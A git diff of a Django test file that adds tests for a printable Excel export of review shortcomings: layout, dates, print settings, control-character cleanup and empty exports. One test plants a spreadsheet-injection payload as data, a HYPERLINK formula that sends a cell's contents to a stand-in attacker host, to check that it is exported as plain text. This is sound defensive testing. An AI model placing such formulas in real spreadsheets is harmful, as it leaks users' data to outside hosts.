@@ -4,12 +4,15 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import zipfile
 
 import pytest
+from django.utils import timezone
 from openpyxl import load_workbook
 
 from phuthang import periods
 from reviews.models import Manifestation, Shortcoming
+from tests.conftest import vi
 from tests.factories import make_cell, make_member, make_shortcoming
 
 
@@ -108,14 +111,79 @@ def test_a_member_gets_404_on_the_board(client, ward, member):
     assert client.get("/shortcomings/").status_code == 404
 
 
+def _export(client, query: str = ""):
+    response = client.get(f"/shortcomings/export.xlsx{query}")
+    assert response.status_code == 200, response.content[:500]
+    return response, load_workbook(io.BytesIO(response.content)).active
+
+
 def test_the_export_holds_the_filtered_list(client, ward, inspector):
     make_shortcoming(ward.cell01, description="Trong chi bộ 1")
     make_shortcoming(ward.cell02, description="Trong chi bộ 2")
     client.force_login(inspector)
-    response = client.get(f"/shortcomings/export.xlsx?cell={ward.cell01.pk}")
+    response, sheet = _export(client, f"?cell={ward.cell01.pk}")
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
-    assert len(rows) == 2 and rows[1][3] == "Trong chi bộ 1"
+    rows = list(sheet.iter_rows(min_row=4, values_only=True))  # below the title, the filters and the header
+    assert len(rows) == 1 and rows[0][3] == "Trong chi bộ 1"
+
+
+def test_the_export_is_a_sheet_to_print_as_it_is(client, ward, inspector):
+    today = periods.today()
+    for day in (3, 2, 1):
+        make_shortcoming(ward.cell01, due_on=today + dt.timedelta(days=day), raised_on=today)
+    client.force_login(inspector)
+
+    _response, sheet = _export(client, f"?cell={ward.cell01.pk}&status=open")
+
+    title, about, header = (sheet.cell(row=n, column=1).value for n in (1, 2, 3))
+    assert title == vi("LIST OF SHORTCOMINGS AND THEIR REMEDIATION")
+    assert f"{vi('Cell')}: {ward.cell01.name}" in about and f"{vi('Status')}: {vi('Open')}" in about
+    assert f"{timezone.localtime():%d/%m/%Y}" in about  # when it was exported, in Vietnam time
+    assert header == "STT" and sheet.cell(row=3, column=1).font.b
+    assert [sheet.cell(row=n, column=1).value for n in (4, 5, 6)] == [1, 2, 3]  # row numbers, not ids
+    due = sheet.cell(row=4, column=10)
+    assert sheet.cell(row=3, column=10).value == vi("Due date")
+    assert due.is_date and due.value.date() == today + dt.timedelta(days=1)
+    assert due.number_format == "dd/mm/yyyy"
+    assert sheet.cell(row=4, column=4).alignment.wrap_text
+    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == "A3:N6"
+    assert sheet.print_title_rows == "$3:$3"  # the header on every printed page
+    assert int(sheet.page_setup.paperSize) == 9 and sheet.page_setup.orientation == "landscape"  # A4
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
+    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMN"]
+    assert len(set(widths)) > 3 and max(widths) <= 45  # fitted to the content, within bounds
+
+
+def test_a_formula_in_a_shortcoming_is_exported_as_its_text(client, ward, inspector):
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    make_shortcoming(ward.cell01, description=attack, plan="+1 buổi", verification_note="@SUM(A1)")
+    make_shortcoming(ward.cell01, description="-2+3")
+    client.force_login(inspector)
+
+    response, sheet = _export(client)
+
+    descriptions = {sheet.cell(row=n, column=4).value for n in (4, 5)}
+    assert descriptions == {attack, "-2+3"}
+    assert sheet.cell(row=4, column=4).data_type == "s" and sheet.cell(row=4, column=4).quotePrefix
+    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
+        xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml and "HYPERLINK" in xml
+
+
+def test_a_control_character_in_an_old_row_does_not_break_the_export(client, ward, inspector):
+    make_shortcoming(ward.cell01, description="Chưa\x01 gương mẫu\x0b", plan="Kế\x1f hoạch\n2 dòng")
+    client.force_login(inspector)
+
+    _response, sheet = _export(client)
+
+    assert sheet.cell(row=4, column=4).value == "Chưa gương mẫu"
+    assert sheet.cell(row=4, column=6).value == "Kế hoạch\n2 dòng"  # a line break is kept
+
+
+def test_an_empty_export_still_has_its_title_and_header(client, ward, inspector):
+    client.force_login(inspector)
+    _response, sheet = _export(client)
+    assert sheet.max_row == 3 and sheet.cell(row=3, column=1).value == "STT"
 
 
 @pytest.mark.parametrize("n", [10, 5000])
@@ -143,7 +211,7 @@ def test_the_export_of_5000_rows_runs_a_fixed_number_of_queries(
     with django_assert_num_queries(9):
         response = client.get("/shortcomings/export.xlsx")
     sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
-    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 5001
+    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 3 + 5000  # title, filters, header, rows
 
 
 def test_the_board_lists_items_still_to_act_on_before_closed_ones(client, inspector, ward):
